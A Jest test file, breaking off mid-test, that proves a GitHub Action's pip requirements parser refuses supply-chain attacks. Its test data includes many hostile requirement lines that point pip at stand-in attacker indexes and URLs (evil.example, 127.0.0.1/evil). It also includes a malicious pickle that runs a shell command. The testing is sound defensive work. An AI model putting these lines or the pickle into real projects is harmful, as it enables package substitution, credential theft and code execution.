import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { createHash } from 'node:crypto'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import type { ModelSecurityClient } from '../../src/airs/client.js'
import type { Logger } from '../../src/util/logger.js'
import { GateError } from '../../src/util/gate-error.js'
import { readInputs } from '../../src/inputs.js'
import { prepareScanner, ScannerError, type ScannerSetup } from '../../src/scanner/prepare-scanner.js'
import {
  MAX_REQUIREMENTS_BYTES,
  parseMarker,
  parseRequirements,
  renderRequirements,
  RequirementsRefused,
  type PinnedRequirements
} from '../../src/scanner/requirements.js'
import type { Simulator } from '../../sim/server.js'
import { runAction } from '../helpers/run-dist.js'
import { clientFor, requests, startSim } from '../helpers/sim.js'
import { thrown } from '../helpers/throws.js'
import {
  buildWheel,
  placeholderClient,
  publish,
  standInClient,
  startPackageIndex,
  type PackageIndex,
  type Wheel
} from '../helpers/wheel.js'

/**
 * Issue 13, item 2: `scanner-requirements` could swap the scanner. pip's requirements grammar lets a file from
 * the checkout name another index (`--index-url`, `--extra-index-url`, `-f`, `--trusted-host`), include files,
 * install URLs and paths, and expand `${VARIABLES}`; an attacker's "model-security-client", hash-pinned to their
 * own wheel, then gets the AIRS credentials and reports a malicious model clean.
 *
 * The class is closed by reading the file with a parser of our own that accepts only `name==version --hash=…`
 * lines and comments, and by giving pip a file written from the parsed values. These tests generate the attacks:
 * every pip option in every spelling and position, every URL and path form, every way of not pinning, hashes of
 * other algorithms, environment interpolation, encodings; then prove with real pip that a malicious index named
 * in the file gets no request and the job fails before any install, and that the attacker's hash cannot be
 * satisfied from the private index.
 */

const VERSION = '1.1.2'
const FILE = '/ws/scanner-requirements.txt'
const sha = (s: string) => createHash('sha256').update(s).digest('hex')
const H1 = sha('one')
const H2 = sha('two')
const CLIENT = `model-security-client==${VERSION} --hash=sha256:${H1}`
const EVIL = 'http://127.0.0.1:9/evil/simple/'

const parse = (text: string | Buffer, version = VERSION) => parseRequirements(text, FILE, version)

/**
 * The refusal of `text`, checked for the shape every refusal has. (Called some 6,000 times: one `expect` of the
 * whole shape, as an `expect` per property cost about a CPU second.)
 */
function expectInertRefused(text: string | Buffer, version = VERSION): RequirementsRefused {
  const e = thrown(RequirementsRefused, () => parse(text, version))
  expect({
    scannerError: e instanceof ScannerError,
    reason: e.reason,
    code: e.code,
    // one line, naming the file; never the value of an option (an index URL may carry a token)
    oneLine: !/[\r\n]/.test(e.message),
    namesFile: e.message.startsWith(`The scanner requirements file ${FILE}`),
    echoesEvil: e.message.includes('evil'),
    echoesHost: e.message.includes('127.0.0.1')
  }).toEqual({
    scannerError: true,
    reason: 'INVALID_OPTION',
    code: 'INVALID_INPUT',
    oneLine: true,
    namesFile: true,
    echoesEvil: false,
    echoesHost: false
  })
  return e
}

/** A file pinning the client, with `line` as line 2. */
const withLine = (line: string) => `${CLIENT}\n${line}\n`

// ---- what pip options look like, in every spelling ----

/** Every option pip reads in a requirements file (and some it reads only on the command line), with a value. */
const OPTIONS: Array<[option: string, value: string | undefined]> = [
  ['-i', EVIL],
  ['--index-url', EVIL],
  ['--extra-index-url', EVIL],
  ['-f', EVIL],
  ['--find-links', EVIL],
  ['--trusted-host', '127.0.0.1'],
  ['--no-index', undefined],
  ['-r', 'evil.txt'],
  ['--requirement', 'evil.txt'],
  ['-c', 'evil.txt'],
  ['--constraint', 'evil.txt'],
  ['-e', 'git+https://evil.example/x.git#egg=model-security-client'],
  ['--editable', './evil'],
  ['--pre', undefined],
  ['--prefer-binary', undefined],
  ['--use-feature', 'truststore'],
  ['--config-settings', 'key=value'],
  ['-C', 'key=value'],
  ['--global-option', '--evil'],
  ['--install-option', '--prefix=/tmp/evil'],
  ['--only-binary', ':none:'],
  ['--no-binary', ':all:'],
  ['--require-hashes', undefined],
  ['--no-deps', undefined],
  ['--extra-index', EVIL],
  ['-Z', undefined],
  ['--index', EVIL],
  ['--default-index', EVIL]
]

/** Each way of writing `option value` that a human or a tool might, and pip would read. */
function spellings(option: string, value: string | undefined): string[] {
  const v = value ?? ''
  const forms = value === undefined ? [option] : [`${option} ${v}`, `${option}=${v}`, `${option}\t${v}`]
  if (value !== undefined && /^-[A-Za-z]$/.test(option)) forms.push(`${option}${v}`)
  return [
    ...forms,
    ...forms.map((f) => f.toUpperCase()),
    ...forms.map((f) => `   ${f}`),
    ...forms.map((f) => `\t${f}`),
    ...forms.map((f) => `${f} # a comment`)
  ]
}

describe('option lines are refused, in every spelling and position', () => {
  const cases = OPTIONS.flatMap(([o, v]) => spellings(o, v).map((s): [string, string] => [o, s]))

  it(`${cases.length} option spellings on their own line: refused, naming the line and the option`, () => {
    expect(cases.length).toBeGreaterThan(350)
    for (const [option, spelled] of cases) {
      const e = expectInertRefused(withLine(spelled))
      expect(e.detail).toMatch(new RegExp(`^${FILE} line 2 `))
      expect(e.message.toLowerCase()).toContain(option.toLowerCase())
    }
  })

  it('after a line continuation, at the start of the file, at its end, and after blank lines and comments', () => {
    for (const [, spelled] of cases) {
      expectInertRefused(`${CLIENT} \\\n${spelled}\n`)
      expectInertRefused(`${spelled}\n${CLIENT}\n`)
      expectInertRefused(`${CLIENT}\n\n# header\n\n${spelled}`)
      expectInertRefused(`${CLIENT}\r\n${spelled}\r\n`)
    }
  })

  it('on a requirement line, before or after the hashes, or on a continuation between them', () => {
    for (const [option, value] of OPTIONS) {
      const spelled = value === undefined ? option : `${option} ${value}`
      expectInertRefused(`model-security-client==${VERSION} ${spelled} --hash=sha256:${H1}\n`)
      expectInertRefused(`model-security-client==${VERSION} --hash=sha256:${H1} ${spelled}\n`)
      expectInertRefused(`model-security-client==${VERSION} \\\n    --hash=sha256:${H1} \\\n    ${spelled}\n`)
      expectInertRefused(`model-security-client==${VERSION} \\\n    ${spelled} \\\n    --hash=sha256:${H1}\n`)
    }
  })

  it('the index options say the private index is the only source, and how to stop pip-compile writing them', () => {
    for (const o of [
      '-i',
      '--index-url',
      '--extra-index-url',
      '-f',
      '--find-links',
      '--trusted-host',
      '--no-index'
    ]) {
      const e = expectInertRefused(withLine(`${o} ${EVIL}`))
      expect(e.message).toContain('the private package index is the only source')
      expect(e.message).toContain('--no-emit-options')
    }
    expect(expectInertRefused(withLine('-r other.txt')).message).toContain(
      'put every requirement in this one file'
    )
  })

  it('a "#" is a comment only after whitespace, as in pip: what is one is dropped, what is not is refused', () => {
    const accepted = parse(`${CLIENT} #--index-url ${EVIL}\n# -i ${EVIL}\n\t# --find-links x\n`)
    expect(renderRequirements(accepted)).toBe(`${CLIENT}\n`)
    expectInertRefused(`model-security-client==${VERSION}#--index-url --hash=sha256:${H1}\n`)
    expectInertRefused(`model-security-client==${VERSION} --hash=sha256:${H1}#-i\n`)
    expectInertRefused(`${CLIENT}\n#\n--index-url#x\n`)
  })

  it('a comment ending in a backslash, which pip would join with the next line, is refused', () => {
    // pip: `x==1 # c \` continues, and the comment then swallows the next line, whatever it is
    expectInertRefused(`${CLIENT} # note \\\n--index-url ${EVIL}\n`)
    expectInertRefused(`${CLIENT} # note \\\nhttpx==0.28.1 --hash=sha256:${H2}\n`)
    // a full-line comment never continues (pip's rule too), so the next line is read on its own
    expectInertRefused(`${CLIENT}\n# note \\\n--index-url ${EVIL}\n`)
    expect(parse(`${CLIENT}\n# note \\\nhttpx==0.28.1 --hash=sha256:${H2}\n`).requirements).toHaveLength(2)
  })
})

describe('requirements that are not a name and an exact version from the index are refused', () => {
  const URL_AND_PATH = [
    `model-security-client @ ${EVIL}model_security_client-1.1.2-py3-none-any.whl`,
    `model-security-client@${EVIL}x.whl`,
    `model-security-client[all] @ file:///tmp/evil.whl`,
    `${EVIL}model_security_client-1.1.2-py3-none-any.whl`,
    'https://evil.example/model_security_client-1.1.2-py3-none-any.whl#egg=model-security-client',
    'git+https://evil.example/model-security-client.git@v1.1.2#egg=model-security-client',
    'git+ssh://git@evil.example/x.git',
    'hg+https://evil.example/x',
    'svn+https://evil.example/x',
    'bzr+https://evil.example/x',
    'file:///tmp/evil.whl',
    'file:evil.whl',
    './evil',
    '../evil',
    '.',
    '/tmp/evil.whl',
    '~/evil.whl',
    'C:\\evil\\model_security_client-1.1.2-py3-none-any.whl',
    'evil/model_security_client-1.1.2-py3-none-any.whl',
    'model_security_client-1.1.2-py3-none-any.whl',
    'model-security-client-1.1.2.tar.gz',
    `model-security-client==${VERSION}@evil`
  ]

  it.each(URL_AND_PATH)('%s', (req) => {
    const e = expectInertRefused(`${req} --hash=sha256:${H1}\nhttpx==0.28.1 --hash=sha256:${H2}\n`)
    expect(e.detail).toMatch(/ line 1 /)
  })

  it('direct references and paths say only name==version from the private index is accepted', () => {
    for (const req of URL_AND_PATH.slice(0, 18)) {
      expect(expectInertRefused(`${req} --hash=sha256:${H1}\n`).message).toContain(
        'installs from a URL or a path'
      )
    }
  })

  const NOT_EXACT = [
    'model-security-client',
    'model-security-client>=1.1.2',
    'model-security-client~=1.1.2',
    'model-security-client!=1.1.1',
    'model-security-client<=1.1.2',
    'model-security-client<2',
    'model-security-client>1',
    'model-security-client===1.1.2',
    'model-security-client==1.1.*',
    'model-security-client==1.*',
    'model-security-client==*',
    'model-security-client==1.1.2,<2',
    'model-security-client==1.1.2, ==1.1.2',
    'model-security-client=1.1.2',
    'model-security-client==',
    'model-security-client==v1.1.2',
    'model-security-client==1.1.2-1',
    'model-security-client==1.1.2RC1',
    'model-security-client==1.1.2.RC1',
    'model-security-client==1.1.2_1',
    'model-security-client==1.1.2+',
    'model-security-client==1.1.2+local_x',
    'model-security-client==latest',
    'model-security-client (==1.1.2)'
  ]
  it.each(NOT_EXACT)('%s', (req) => {
    expectInertRefused(`${req} --hash=sha256:${H1}\n`)
  })

  it('exact, canonical versions of dependencies are accepted, local labels and epochs included', () => {
    for (const v of [
      '1',
      '1.0',
      '2024.2',
      '2.9.0.post0',
      '1.0rc1',
      '1.0a2',
      '1.0b3',
      '1.0.dev4',
      '1!2.0',
      '2.1.0+cpu'
    ])
      expect(parse(withLine(`dep==${v} --hash=sha256:${H2}`)).requirements[1]!.version).toBe(v)
  })

  it('names: PEP 508 spellings, one line per package after PEP 503 normalisation', () => {
    expect(parse(withLine(`Typing_Extensions==4.12.2 --hash=sha256:${H2}`)).requirements[1]!.name).toBe(
      'typing-extensions'
    )
    for (const dup of [
      `Model_Security.Client==${VERSION} --hash=sha256:${H2}`,
      `MODEL-SECURITY-CLIENT==${VERSION} --hash=sha256:${H2}`,
      `model-security-client[all]==${VERSION} --hash=sha256:${H2}`
    ]) {
      expect(expectInertRefused(withLine(dup)).message).toContain(
        'pins model-security-client again (first on line 1)'
      )
    }
    for (const name of [
      '-dep',
      'dep-',
      'de p',
      'dép',
      'de\u200bp',
      'dep!',
      'dep%41',
      'dep$x',
      'dep"x',
      "dep'x"
    ])
      expectInertRefused(withLine(`${name}==1.0 --hash=sha256:${H2}`))
    expectInertRefused(withLine(`dep[a b]==1.0 --hash=sha256:${H2}`))
    expectInertRefused(withLine(`dep[-x]==1.0 --hash=sha256:${H2}`))
    expectInertRefused(withLine(`dep[x]]==1.0 --hash=sha256:${H2}`))
  })
})

describe('hashes', () => {
  it.each([
    ['no hash', `model-security-client==${VERSION}`],
    ['md5', `model-security-client==${VERSION} --hash=md5:${'0'.repeat(32)}`],
    ['sha1', `model-security-client==${VERSION} --hash=sha1:${'0'.repeat(40)}`],
    ['sha384', `model-security-client==${VERSION} --hash=sha384:${'0'.repeat(96)}`],
    ['sha512', `model-security-client==${VERSION} --hash=sha512:${'0'.repeat(128)}`],
    ['a short sha256', `model-security-client==${VERSION} --hash=sha256:${H1.slice(1)}`],
    ['a long sha256', `model-security-client==${VERSION} --hash=sha256:${H1}0`],
    ['a non-hex sha256', `model-security-client==${VERSION} --hash=sha256:${'g'.repeat(64)}`],
    ['no algorithm', `model-security-client==${VERSION} --hash=${H1}`],
    ['no value', `model-security-client==${VERSION} --hash`],
    ['an empty value', `model-security-client==${VERSION} --hash=`],
    ['a second option glued on', `model-security-client==${VERSION} --hash=sha256:${H1},--index-url=${EVIL}`],
    ['a single-dash spelling', `model-security-client==${VERSION} -hash=sha256:${H1}`]
  ])('%s is refused', (_what, line) => {
    expectInertRefused(`${line}\n`)
  })

  it('both spellings pip-compile and people use, over continuation lines, deduplicated and lower-cased', () => {
    const p = parse(
      `model-security-client==${VERSION} \\\n    --hash=sha256:${H1} \\\n    --hash sha256:${H2.toUpperCase()} \\\n    --hash=sha256:${H1}\n`
    )
    expect(p.requirements[0]!.sha256).toEqual([H1, H2])
  })
})

describe('everything pip would expand or misread is refused', () => {
  it.each([
    `model-security-client==${VERSION} --hash=sha256:\${CLIENT_SHA}`,
    `model-security-client==\${SCANNER_VERSION} --hash=sha256:${H1}`,
    `\${PIP_INDEX_URL}`,
    `--index-url \${INDEX}`,
    `model-security-client[\${EXTRA}]==${VERSION} --hash=sha256:${H1}`,
    `dep==1.0 ; python_version >= "\${V}" --hash=sha256:${H2}`,
    `dep==1.0$ --hash=sha256:${H2}`
  ])('environment interpolation: %s', (line) => {
    expect(expectInertRefused(`${CLIENT}\n${line}\n`).detail).toMatch(/ line 2 /)
  })

  it('says what to do about ${VARIABLES}', () => {
    expect(expectInertRefused(withLine(`dep==\${V} --hash=sha256:${H2}`)).message).toContain(
      'refers to an environment variable'
    )
  })

  it('encodings, control and invisible characters, line ends, sizes', () => {
    const latin1 = Buffer.concat([Buffer.from(`${CLIENT}\n# caf`), Buffer.from([0xe9]), Buffer.from('\n')])
    expect(expectInertRefused(latin1).message).toContain('line 2 is not UTF-8 text')
    expect(expectInertRefused(Buffer.from([0xff, 0xfe, 0x6d, 0x00])).message).toContain('is not UTF-8 text')
    expect(expectInertRefused(`${CLIENT}\n\u0000--index-url x\n`).message).toContain(
      'line 2 contains the control character U+0000'
    )
    expect(expectInertRefused(`${CLIENT}\n# \u0000\n`).message).toContain('U+0000')
    // CR-only line ends would hide lines from a reviewer's diff and split them differently in other tools
    expect(expectInertRefused(`${CLIENT}\r--index-url ${EVIL}\r`).message).toContain('carriage return')
    expect(expectInertRefused(`${CLIENT}\n# note\r--index-url x\n`).message).toContain(
      'line 2 has a carriage return'
    )
    for (const invisible of ['\u202e', '\u2066', '\u200b', '\u200d', '\ufeff', '\u00ad', '\u2028', '\u0085'])
      expectInertRefused(`${CLIENT}\n# looks like a comment ${invisible}\n`)
    expectInertRefused(`${CLIENT}\n\u000b--index-url x\n`)
    expectInertRefused(`${CLIENT}\n\u000c\n`)
    const long = `${CLIENT}\n${'#'.repeat(MAX_REQUIREMENTS_BYTES)}\n`
    expect(expectInertRefused(long).message).toContain(`at most ${MAX_REQUIREMENTS_BYTES} are accepted`)
    expectInertRefused(`${CLIENT}\n# ${'x'.repeat(70_000)}\n`)
    // a byte-order mark at the very start is what some editors write: skipped
    expect(parse(`\ufeff${CLIENT}\n`).requirements).toHaveLength(1)
    // tabs are whitespace
    expect(parse(`model-security-client==${VERSION}\t--hash=sha256:${H1}\t# ok\n`).requirements).toHaveLength(
      1
    )
  })

  it('a file that pins nothing, or not the client at the scanner version, or the client under a marker', () => {
    expect(expectInertRefused('').message).toContain('does not pin model-security-client==1.1.2')
    expect(expectInertRefused('# nothing\n').message).toContain('does not pin model-security-client==1.1.2')
    expect(expectInertRefused(`httpx==0.28.1 --hash=sha256:${H2}\n`).message).toContain('does not pin')
    const other = expectInertRefused(`# c\nmodel-security-client==1.1.1 --hash=sha256:${H1}\n`)
    expect(other.detail).toBe(
      `${FILE} line 2 does not pin model-security-client==1.1.2: it pins 1.1.1; pin the same version as scanner-version`
    )
    expect(
      expectInertRefused(`model-security-client==${VERSION} ; sys_platform == "win32" --hash=sha256:${H1}\n`)
        .message
    ).toContain('the client must be installed on every runner')
  })
})

describe('environment markers are read strictly', () => {
  it.each([
    ['python_version >= "3.12"', 'python_version >= "3.12"'],
    ["python_version>='3.12'", 'python_version >= "3.12"'],
    [
      'sys_platform == "win32" and platform_machine != "arm64"',
      'sys_platform == "win32" and platform_machine != "arm64"'
    ],
    [
      '(os_name == "nt" or os_name == "posix") and python_full_version < "3.13.1"',
      '(os_name == "nt" or os_name == "posix") and python_full_version < "3.13.1"'
    ],
    ['"linux" in sys_platform', '"linux" in sys_platform'],
    ['platform_system not in "Windows"', 'platform_system not in "Windows"'],
    ['implementation_name == "cpython"', 'implementation_name == "cpython"'],
    ['python_version == "3.*"', 'python_version == "3.*"']
  ])('%s', (marker, canonical) => {
    expect(parseMarker(marker)).toBe(canonical)
    const p = parse(withLine(`dep==1.0 ; ${marker} --hash=sha256:${H2}`))
    expect(p.requirements[1]!.marker).toBe(canonical)
  })

  it.each([
    'extra == "aws"',
    'os.name == "nt"',
    'python_version >= 3.12',
    'python_version',
    'python_version >= "3.12" and',
    '(python_version >= "3.12"',
    'python_version >= "3.12")',
    '"a" == "b"',
    'python_version == os_name',
    'python_version >= "3.12" --index-url',
    'python_version >= "3 12"',
    'python_version >= "3.12#"',
    'python_version >= "a/b"',
    'python_version >= "a\\b"',
    'python_version >= "a:b"',
    'python_version >= \'3.12"',
    '__import__("os")',
    'python_version is "3"',
    '',
    '((((((((((python_version >= "3"))))))))))'
  ])('refused: %s', (marker) => {
    expectInertRefused(withLine(`dep==1.0 ; ${marker} --hash=sha256:${H2}`))
  })
})

// ---- pip-compile's output ----

/** What `pip-compile --generate-hashes` writes (pip-tools 7, annotation style "split"), for the client and deps. */
function pipCompileOutput(opts: { emitOptions?: boolean; crlf?: boolean; extras?: boolean } = {}): string {
  const hashes = (name: string, n: number) =>
    Array.from({ length: n }, (_, i) => ` \\\n    --hash=sha256:${sha(`${name}-${i}`)}`).join('')
  const lines = [
    '#',
    '# This file is autogenerated by pip-compile with Python 3.12',
    '# by the following command:',
    '#',
    '#    pip-compile --generate-hashes --output-file=scanner-requirements.txt scanner-requirements.in',
    '#',
    ...(opts.emitOptions
      ? [
          '--index-url https://_token:ya29.a0AfB_byC@us-python.pkg.dev/airs/pypi/simple/',
          '--trusted-host us-python.pkg.dev',
          ''
        ]
      : []),
    `annotated-types==0.7.0${hashes('annotated-types', 2)}`,
    '    # via pydantic',
    `anyio==4.6.2.post1${hashes('anyio', 2)}`,
    '    # via httpx',
    `boto3==1.35.54${hashes('boto3', 2)}`,
    '    # via model-security-client',
    `botocore==1.35.54${hashes('botocore', 2)}`,
    '    # via',
    '    #   boto3',
    '    #   s3transfer',
    `certifi==2024.8.30${hashes('certifi', 2)}`,
    '    # via',
    '    #   httpcore',
    '    #   httpx',
    `h11==0.14.0${hashes('h11', 2)}`,
    '    # via httpcore',
    `httpcore==1.0.6${hashes('httpcore', 2)}`,
    '    # via httpx',
    `httpx==0.27.2${hashes('httpx', 2)}`,
    '    # via model-security-client',
    `idna==3.10${hashes('idna', 2)}`,
    '    # via',
    '    #   anyio',
    '    #   httpx',
    `jmespath==1.0.1${hashes('jmespath', 2)}`,
    '    # via',
    '    #   boto3',
    '    #   botocore',
    `model-security-client${opts.extras ? '[aws]' : ''}==1.1.2${hashes('client', 1)}`,
    '    # via -r scanner-requirements.in',
    `numpy==2.1.3${hashes('numpy', 60)}`,
    '    # via model-security-client',
    `pydantic==2.9.2${hashes('pydantic', 2)}`,
    '    # via model-security-client',
    `pydantic-core==2.23.4${hashes('pydantic-core', 100)}`,
    '    # via pydantic',
    `python-dateutil==2.9.0.post0${hashes('python-dateutil', 2)}`,
    '    # via botocore',
    `s3transfer==0.10.3${hashes('s3transfer', 2)}`,
    '    # via boto3',
    `six==1.16.0${hashes('six', 2)}`,
    '    # via python-dateutil',
    `sniffio==1.3.1${hashes('sniffio', 2)}`,
    '    # via',
    '    #   anyio',
    '    #   httpx',
    `typing-extensions==4.12.2${hashes('typing-extensions', 2)}`,
    '    # via',
    '    #   pydantic',
    '    #   pydantic-core',
    `tzdata==2024.2 ; sys_platform == "win32"${hashes('tzdata', 2)}`,
    '    # via -r scanner-requirements.in',
    `urllib3==2.2.3${hashes('urllib3', 2)}`,
    '    # via botocore',
    '',
    '# The following packages are considered to be unsafe in a requirements file:',
    '# setuptools',
    ''
  ]
  return lines.join(opts.crlf ? '\r\n' : '\n')
}

describe("pip-compile's output", () => {
  it('is accepted as written (header, # via annotations, markers, CRLF), and rendered as one line per package', () => {
    for (const opts of [{}, { crlf: true }, { extras: true }]) {
      const text = pipCompileOutput(opts)
      const p = parse(text)
      expect(p.requirements).toHaveLength(21)
      expect(p.sha256).toBe(sha(text))
      const client = p.requirements.find((r) => r.name === 'model-security-client')!
      const line = text.split(/\r?\n/).findIndex((l) => l.startsWith('model-security-client')) + 1
      expect(client).toMatchObject({ version: VERSION, line, extras: 'extras' in opts ? ['aws'] : [] })
      expect(p.requirements.find((r) => r.name === 'pydantic-core')!.sha256).toHaveLength(100)
      expect(p.requirements.find((r) => r.name === 'tzdata')!.marker).toBe('sys_platform == "win32"')
      const rendered = renderRequirements(p).split('\n')
      expect(rendered.pop()).toBe('')
      expect(rendered).toHaveLength(21)
      for (const line of rendered)
        expect(line).toMatch(
          /^[a-z0-9-]+(\[[a-z0-9,-]+\])?==[0-9a-z.!+]+( ; [^-#$\\]+)?( --hash=sha256:[0-9a-f]{64})+$/
        )
    }
  })

  it('with its default options (--index-url with the token, --trusted-host): refused at the first, without echoing it', () => {
    const e = expectInertRefused(pipCompileOutput({ emitOptions: true }))
    expect(e.detail).toMatch(/ line 7 sets the pip option --index-url/)
    expect(e.message).not.toContain('ya29')
    expect(e.message).not.toContain('pkg.dev')
  })
})

describe('whatever the file, pip only ever sees requirement lines with sha256 hashes', () => {
  /** pieces that can make a valid file, and pieces of every attack above */
  const benign = [
    `httpx==0.28.1 --hash=sha256:${H2}`,
    '\n',
    '\n',
    '\r\n',
    ' ',
    '\t',
    ' #',
    ' # via x',
    ' \\\n',
    ' --hash=sha256:',
    H1,
    ' ; python_version >= "3"',
    '[all]'
  ]
  const hostile = [
    CLIENT,
    '--index-url',
    '-i',
    '-f',
    '--extra-index-url=',
    EVIL,
    '--hash',
    'sha256:',
    '#',
    '\\',
    '\r',
    '@',
    ';',
    '==',
    'model-security-client',
    '${X}',
    '-e',
    '-r',
    'file:',
    './',
    'git+',
    '"',
    "'",
    '\u202e'
  ]
  it('5000 files from pip-grammar fragments: refused, or rendered to strict lines only', () => {
    let accepted = 0
    const piece = fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...benign) },
      { weight: 1, arbitrary: fc.constantFrom(...hostile) }
    )
    fc.assert(
      fc.property(fc.boolean(), fc.array(piece, { maxLength: 24 }), (withClient, parts) => {
        const text = (withClient ? `${CLIENT}\n` : '') + parts.join('')
        let p: PinnedRequirements
        try {
          p = parse(text)
        } catch (e) {
          // (a property: plain throws, as expect may not be called conditionally)
          if (!(e instanceof RequirementsRefused)) throw e
          if (/[\r\n]/.test(e.message))
            throw new Error(`a refusal of several lines: ${e.message}`, { cause: e })
          return
        }
        accepted++
        for (const line of renderRequirements(p).trimEnd().split('\n')) {
          expect(line).toMatch(
            /^[a-z0-9-]+(\[[a-z0-9,-]+\])?==[0-9a-z.!+]+( ; [a-z_ ()"=<>!~.*0-9-]+)?( --hash=sha256:[0-9a-f]{64})+$/
          )
          expect(line).not.toMatch(/ -(?!-hash=sha256:)|\$|#|@|:\/\//)
        }
        expect(p.requirements.filter((r) => r.name === 'model-security-client')).toHaveLength(1)
      }),
      { numRuns: 5000, seed: 13 }
    )
    expect(accepted).toBeGreaterThan(200)
  })

  it('values built by hand are checked again before pip sees them', () => {
    const good = parse(withLine(`dep==1.0 --hash=sha256:${H2}`))
    const bad: Array<Partial<PinnedRequirements['requirements'][number]>> = [
      { name: 'dep --index-url http://evil' },
      { name: 'Dep' },
      { extras: ['all] @ http://evil'] },
      { version: '1.0 --index-url=http://evil' },
      { version: '>=1' },
      { sha256: [] },
      { sha256: [`${H2} --index-url http://evil`] },
      { marker: 'python_version >= "3" --index-url http://evil' },
      { marker: 'extra == "x"' }
    ]
    for (const b of bad) {
      const tampered = { ...good, requirements: [good.requirements[0]!, { ...good.requirements[1]!, ...b }] }
      expect(() => renderRequirements(tampered)).toThrow(ScannerError)
    }
  })
})

// ---- end to end, through real pip ----

describe('end to end', () => {
  let sim: Simulator
  let client: ModelSecurityClient
  let pub: PackageIndex
  let root: string
  let workspace: string
  let good: Wheel
  let evil: Wheel
  let dep: Wheel
  const seen: string[] = []
  const logger: Logger = {
    debug: (m) => seen.push(`debug: ${m}`),
    info: (m) => seen.push(`info: ${m}`),
    warning: (m) => seen.push(`warning: ${m}`)
  }

  beforeAll(async () => {
    sim = await startSim({ settleMs: 50 })
    client = clientFor(sim)
    root = await fs.mkdtemp(path.join(os.tmpdir(), 'airs-sec-reqs-'))
    workspace = path.join(root, 'workspace')
    await fs.mkdir(path.join(workspace, 'models', 'evil'), { recursive: true })
    await fs.writeFile(path.join(workspace, 'models', 'evil', 'model.pkl'), "cposix\nsystem\n(S'id'\ntR.")
    good = standInClient(VERSION)
    dep = buildWheel({ name: 'tiny-dep', version: '1.0', files: { 'tiny_dep.py': 'X = 1\n' } })
    publish(sim, good, dep)
    // an sdist on the private index: hash-pinned, it must still not be built
    sim.store.packages.push({
      name: 'tiny-src',
      version: '1.0',
      filename: 'tiny-src-1.0.tar.gz',
      bytes: Buffer.from('not really an sdist')
    })
    // the attacker's index and the attacker's build of the pinned version
    evil = placeholderClient(VERSION)
    pub = await startPackageIndex([evil])
  }, 30_000)

  afterAll(async () => {
    await client?.close()
    await pub?.close()
    if (root) await fs.rm(root, { recursive: true, force: true })
  })

  const setup = (over: Partial<ScannerSetup>): ScannerSetup => ({
    version: VERSION,
    runnerTemp: path.join(root, 'runner-temp'),
    credentials: sim.credentials,
    endpoints: { api: sim.apiUrl, token: sim.tokenUrl },
    indexUrl: async () => (await client.pypi.authenticate()).url,
    onSecret: () => {},
    logger,
    env: process.env,
    ...over
  })

  it('the action: a file naming a malicious index fails the step before any install; the index gets no request', async () => {
    const attacks = [
      `--index-url ${pub.url}\nmodel-security-client==${VERSION} --hash=sha256:${evil.sha256}\n`,
      `--extra-index-url ${pub.url}\nmodel-security-client==${VERSION} --hash=sha256:${evil.sha256}\n`,
      `model-security-client==${VERSION} \\\n    --hash=sha256:${evil.sha256} \\\n    --find-links ${pub.url}model-security-client/\n`,
      `model-security-client @ ${pub.url.replace('/simple/', '/files/')}${evil.filename} --hash=sha256:${evil.sha256}\n`
    ]
    const before = { all: requests(sim), index: requests(sim, '/v1/pypi/authenticate') }
    for (const [i, attack] of attacks.entries()) {
      await fs.writeFile(path.join(workspace, `reqs-${i}.txt`), attack)
      const rt = path.join(root, `rt-action-${i}`)
      const r = await runAction(
        { 'model-uri': 'models/evil', 'scanner-requirements': `reqs-${i}.txt` },
        { ...sim.env(), GITHUB_WORKSPACE: workspace, RUNNER_TEMP: rt },
        60_000
      )
      expect({ code: r.code, verdict: r.outputs.verdict, error: r.outputs.error }).toEqual({
        code: 1,
        verdict: 'fail',
        error: 'INVALID_INPUT'
      })
      expect(r.report!.error!.message).toMatch(
        new RegExp(`^Invalid input scanner-requirements: \\S*reqs-${i}\\.txt line [12] `)
      )
      expect(r.stdout).not.toContain('scanner: installing')
      expect(r.stdout).not.toContain(new URL(pub.url).host)
      // nothing was made in RUNNER_TEMP for the scanner
      expect(
        (await fs.readdir(rt).catch(() => [] as string[])).filter((d) => d.startsWith('airs-scanner-'))
      ).toEqual([])
    }
    expect(pub.requests).toEqual([])
    // not a single request to the service: the inputs are read before anything else
    expect(requests(sim)).toBe(before.all)
    expect(requests(sim, '/v1/pypi/authenticate')).toBe(before.index)
  }, 120_000)

  it('readInputs: the same attacks throw INVALID_INPUT naming the line, before any request', () => {
    const file = path.join(workspace, 'reqs-0.txt')
    const e = thrown(GateError, () =>
      readInputs(
        (n) =>
          (({ 'model-uri': 'models/evil', 'scanner-requirements': file }) as Record<string, string>)[n] ?? '',
        { GITHUB_WORKSPACE: workspace }
      )
    )
    expect(e.code).toBe('INVALID_INPUT')
    expect(e.message).toBe(
      `Invalid input scanner-requirements: ${file} line 1 sets the pip option --index-url, which would change where ` +
        'packages come from; the private package index is the only source: remove the line (pip-compile writes ' +
        'such lines unless given --no-emit-options).'
    )
  })

  it("a clean-looking file pinning the attacker's wheel: pip finds only the real one on the private index and refuses it", async () => {
    const text = `model-security-client==${VERSION} \\\n    --hash=sha256:${evil.sha256}\n`
    let e: unknown
    try {
      await prepareScanner(setup({ requirements: parseRequirements(text, '/ws/r.txt', VERSION) }))
    } catch (err) {
      e = err
    }
    expect(e).toBeInstanceOf(ScannerError)
    expect((e as ScannerError).reason).toBe('PIP_FAILED')
    expect((e as ScannerError).message).toContain(
      'a file the private package index serves does not match its hash in /ws/r.txt'
    )
    expect(pub.requests).toEqual([])
  }, 60_000)

  it('a pip-compile style file with extras, markers and a dependency installs through real pip; an sdist does not', async () => {
    const text = [
      '# pip-compile --generate-hashes --no-emit-options',
      `model-security-client[all]==${VERSION} \\`,
      `    --hash=sha256:${good.sha256}`,
      '    # via -r scanner-requirements.in',
      `tiny-dep==1.0 ; python_version >= "3.8" \\`,
      `    --hash=sha256:${dep.sha256}`,
      '    # via -r scanner-requirements.in',
      // a marker no runner matches: pip skips it (it is not on the index at all)
      `never-dep==9.9 ; sys_platform == "nonexistent" --hash=sha256:${H2}`,
      ''
    ].join('\n')
    const s = await prepareScanner(setup({ requirements: parseRequirements(text, '/ws/r.txt', VERSION) }))
    try {
      expect(s.installed).toMatchObject({ version: VERSION, requirementsSha256: sha(text) })
      const site = await fs.readdir(path.join(s.installed.venvDir, 'lib'))
      const pkgs = await fs.readdir(path.join(s.installed.venvDir, 'lib', site[0]!, 'site-packages'))
